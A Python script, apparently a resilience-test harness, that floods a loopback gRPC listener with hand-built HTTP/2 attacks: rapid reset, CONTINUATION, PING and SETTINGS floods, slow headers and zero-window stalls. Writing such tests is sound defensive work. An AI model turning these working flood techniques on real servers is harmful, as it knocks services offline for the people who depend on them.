#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Floods of HTTP/2 frames, written by hand, against a listener on loopback.

    attack.py KIND HOST:PORT [--seconds 4] [--sources 4] [--connections 2]

KIND is one of ATTACKS below. It ends by itself after the time or after
MOST_BYTES, and prints what it did as one line of JSON. Sources are addresses of
127.0.1.0/24, so that the one attacked can tell them from its honest callers. The
attacker has an account: GONGKAI_ATTACK_TOKEN is its access token.
"""

import argparse
import errno
import ipaddress
import json
import os
import selectors
import socket
import struct
import time

MOST_BYTES = 8 << 30
# Requests of one connection, after which the attacker opens another.
STREAMS = 50_000
CHUNK = 1 << 18

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

TOKEN = os.environ["GONGKAI_ATTACK_TOKEN"].encode()
PATH = b"/gongkai.v1.CaseService/ListCases"
# An empty gRPC message: not compressed, of no bytes.
MESSAGE = bytes(5)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """A string of HPACK without Huffman code, of at most 126 bytes."""
    return bytes([len(value)]) + value


def first_headers():
    """The headers of a call; the five that are no entries of the static table
    are put into the dynamic one, the first of them to end as number 66."""
    added = [
        (b"\x44", PATH),
        (b"\x41", b"attack"),
        (b"\x5f", b"application/grpc"),
        (b"\x40" + text(b"te"), b"trailers"),
        (b"\x57", b"Bearer " + TOKEN),
    ]
    # 0x83 is `:method: POST`, 0x86 `:scheme: http`.
    return b"\x83\x86" + b"".join(name + text(value) for name, value in added)


# The same, all by number.
LATER_HEADERS = b"\x83\x86" + bytes(0x80 | n for n in range(66, 61, -1))


def call(n, whole):
    """The n-th call of a connection, from 0, with or without its message."""
    stream = 2 * n + 1
    headers = frame(HEADERS, END_HEADERS, stream, LATER_HEADERS if n else first_headers())
    return headers + (frame(DATA, END_STREAM, stream, MESSAGE) if whole else b"")


def reset(n):
    """Takes the n-th call back."""
    return frame(RST_STREAM, 0, 2 * n + 1, struct.pack(">I", CANCEL))


def flood(piece):
    """`piece`, one frame, as often as fits one write."""
    times = max(1, CHUNK // len(piece))
    return [(piece * times, times)]


class Attack:
    """What one connection sends: `opening` once, then `pieces`, each with the
    number of its frames, `pause` seconds apart; from the first again if
    `endless`, else it ends there and another connection begins, if not `stays`.
    Without pieces it closes at once."""

    def __init__(self, pieces, settings=b"", opening=b"", endless=False, pause=0.0, stays=False):
        self.opening = PREFACE + frame(SETTINGS, 0, 0, settings) + opening if pieces else b""
        self.pieces = pieces
        self.endless, self.pause, self.stays = endless, pause, stays


def rapid_reset(whole):
    return Attack([(b"".join(call(n, whole) + reset(n) for n in range(STREAMS)), STREAMS * (2 + whole))])


def late_reset():
    """As many whole calls as may be open at once, taken back when they are
    likely to be under way."""
    pieces = []
    for begin in range(0, STREAMS, 100):
        batch = range(begin, begin + 100)
        pieces.append((b"".join(call(n, True) for n in batch), 200))
        pieces.append((b"".join(reset(n) for n in batch), 100))
    return Attack(pieces, pause=0.003)


def continuation():
    """Headers that never end: each frame a header of 1,000 bytes."""
    more = 1000 - 127
    length = bytes([0x7F, more & 0x7F | 0x80, more >> 7])
    header = b"\x00" + text(b"x-more") + length + b"a" * 1000
    opening = frame(HEADERS, 0, 1, first_headers())
    return Attack(flood(frame(CONTINUATION, 0, 1, header)), opening=opening, endless=True)


def slow_headers():
    headers = call(0, False)
    return Attack([(headers[n : n + 1], 0) for n in range(len(headers))], pause=0.2, stays=True)


def zero_window():
    """Asks a hundred times, and has no room for an answer."""
    settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
    return Attack([(b"".join(call(n, True) for n in range(100)), 200)], settings=settings, stays=True)


ATTACKS = {
    "reset": lambda: rapid_reset(False),
    "reset_whole": lambda: rapid_reset(True),
    "reset_late": late_reset,
    "ping": lambda: Attack(flood(frame(PING, 0, 0, b"gongkai!")), endless=True),
    "settings": lambda: Attack(
        flood(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))), endless=True
    ),
    "continuation": continuation,
    "slow_headers": slow_headers,
    "storm": lambda: Attack([]),
    "zero_window": zero_window,
}


class Connection:
    """One connection of the attacker, which never blocks."""

    def __init__(self, attack, target, source):
        self.attack = attack
        self.source = source
        self.todo = memoryview(attack.opening)
        self.piece = -1
        self.frames = 0
        self.next = 0.0
        self.socket = socket.socket()
        self.socket.setblocking(False)
        # What is counted as sent is soon read, or lost with the connection.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 16)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.bind((source, 0))
        self.socket.connect_ex(target)

    def done(self):
        last = self.piece + 1 >= len(self.attack.pieces)
        return last and not len(self.todo) and not (self.attack.pieces and self.attack.endless)

    def write(self, now):
        """Sends what goes; the number of bytes."""
        if not len(self.todo):
            if self.done() or now < self.next:
                return 0
            self.piece = (self.piece + 1) % len(self.attack.pieces)
            self.next = now + self.attack.pause
            self.todo = memoryview(self.attack.pieces[self.piece][0])
        n = self.socket.send(self.todo[:CHUNK])
        self.todo = self.todo[n:]
        if self.piece >= 0:
            body, frames = self.attack.pieces[self.piece]
            self.frames += frames * n / len(body)
        return n


class Attacker:
    def __init__(self, options):
        self.attack = ATTACKS[options.kind]()
        host, port = options.target.rsplit(":", 1)
        if not ipaddress.ip_address(host).is_loopback:
            raise SystemExit("attack.py: loopback alone is attacked")
        self.target = (host, int(port))
        self.options = options
        self.selector = selectors.DefaultSelector()
        self.result = {
            "kind": options.kind, "frames": 0, "bytes": 0, "connections": 0,
            "closed_by_peer": 0, "bytes_read": 0,
        }

    def open(self, source):
        connection = Connection(self.attack, self.target, source)
        events = selectors.EVENT_READ | selectors.EVENT_WRITE
        self.selector.register(connection.socket, events, connection)
        self.result["connections"] += 1

    def close(self, connection):
        self.result["frames"] += round(connection.frames)
        self.selector.unregister(connection.socket)
        connection.socket.close()

    def look(self, connection, mask, now):
        """True while the connection is of use."""
        try:
            if mask & selectors.EVENT_WRITE:
                self.result["bytes"] += connection.write(now)
            if mask & selectors.EVENT_READ:
                got = connection.socket.recv(CHUNK)
                self.result["bytes_read"] += len(got)
                if not got:
                    self.result["closed_by_peer"] += 1
                    return False
        except OSError as error:
            if error.errno in (errno.EAGAIN, errno.EINPROGRESS, errno.ENOTCONN):
                return True
            self.result["closed_by_peer"] += 1
            return False
        return self.attack.stays or not connection.done()

    def run(self):
        begin = time.monotonic()
        end = begin + self.options.seconds
        for n in range(self.options.connections):
            self.open("127.0.1.%d" % (1 + n % self.options.sources))
        while (now := time.monotonic()) < end and self.result["bytes"] < MOST_BYTES:
            for key, mask in self.selector.select(timeout=0.05):
                if not self.look(key.data, mask, now):
                    self.close(key.data)
                    self.open(key.data.source)
            if self.attack.pause or self.attack.stays:
                time.sleep(0.001)
        for key in list(self.selector.get_map().values()):
            self.close(key.data)
        self.result["seconds"] = round(time.monotonic() - begin, 2)
        return self.result


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=ATTACKS)
    parser.add_argument("target")
    parser.add_argument("--seconds", type=float, default=4)
    parser.add_argument("--sources", type=int, default=4)
    parser.add_argument("--connections", type=int, default=4)
    print(json.dumps(Attacker(parser.parse_args()).run()))


if __name__ == "__main__":
    main()
